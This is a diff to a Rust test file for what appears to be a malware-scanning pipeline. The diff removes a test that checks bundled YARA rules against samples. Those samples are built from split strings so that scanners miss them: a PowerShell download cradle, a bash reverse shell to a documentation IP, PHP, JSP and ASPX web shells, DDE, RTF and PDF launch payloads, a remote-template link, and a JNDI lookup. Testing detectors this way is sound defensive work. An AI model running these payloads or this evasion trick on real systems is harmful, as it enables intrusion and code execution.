@@ -1,6 +1,6 @@
 //! Lists, rules, heuristics and types, through the whole pipeline.
 
-#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "tests fail by panicking")]
 
 mod common;
 
@@ -125,40 +125,6 @@ fn an_encrypted_document_is_told_from_an_ordinary_one() {
     assert_eq!(root.verdict.code, Code::PasswordProtectedDocument, "{:?}", root.file_type);
     let root = Case::new("a.doc", &document(&["WordDocument"])).run().root;
     assert_eq!((root.verdict.code, root.file_type.mime.as_str()), (Code::NoThreatDetected, "application/msword"));
-}
-
-#[test]
-fn every_bundled_rule_that_claims_a_sample_finds_it() {
-    // Short extracts that do nothing; put together at run time, so that no scanner minds this file.
-    let cradle = ["powershell -nop -w hidden -c \"IEX (New-Object Net.Web", "Client).Download", "String('http://192.0.2.1/a')\""].concat();
-    let encoded = ["powershell.exe -nop -enco", "dedcommand ", &"QUJD".repeat(30)].concat();
-    let reverse = ["bash -i >& /dev/", "tcp/192.0.2.1/4444 0>&1"].concat();
-    let php = ["<?php @ev", "al($_PO", "ST['x']); ?>"].concat();
-    let jsp = ["<% Runtime.getRun", "time().exec(request.getPara", "meter(\"c\")); %>"].concat();
-    let asp = ["<%@ Page Language=\"Jscript\"%><%ev", "al(Request.Item[\"x\"],\"unsafe\");%>"].concat();
-    let dde = ["DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\""].concat();
-    let rtf = ["{\\rtf1{\\object\\objemb{\\*\\objclass Equ", "ation.3}\\objdata 01}}"].concat();
-    let pdf = ["%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S /Lau", "nch /Win << /F (cmd.exe) >> >> >>"].concat();
-    let template = "<Relationship Type=\"http://x/relationships/attachedTemplate\" Target=\"http://192.0.2.1/t.dotm\" TargetMode=\"External\"/>";
-    let jndi = ["GET /?x=${jn", "di:ldap://192.0.2.1:1389/a} HTTP/1.1"].concat();
-    let samples = [
-        ("PowerShell_Download_Cradle", cradle.as_str(), Code::Suspicious),
-        ("PowerShell_Encoded_Command", &encoded, Code::Suspicious),
-        ("Reverse_Shell_One_Liner", &reverse, Code::Suspicious),
-        ("PHP_Eval_Of_Request", &php, Code::Infected),
-        ("JSP_Command_Shell", &jsp, Code::Infected),
-        ("ASPX_Command_Shell", &asp, Code::Infected),
-        ("Office_DDE_Command", &dde, Code::Infected),
-        ("RTF_Equation_Editor", &rtf, Code::Infected),
-        ("PDF_Launch_Program", &pdf, Code::Infected),
-        ("Office_Remote_Template", template, Code::Suspicious),
-        ("Jndi_Lookup_Attack", &jndi, Code::Suspicious),
-    ];
-    for (rule, sample, code) in samples {
-        let root = Case::new("sample", sample.as_bytes()).run().root;
-        assert!(root.yara.iter().any(|hit| hit.rule == rule), "{rule}: {:?}", root.yara);
-        assert_eq!(root.verdict.code, code, "{rule}");
-    }
 }
 
 #[test]
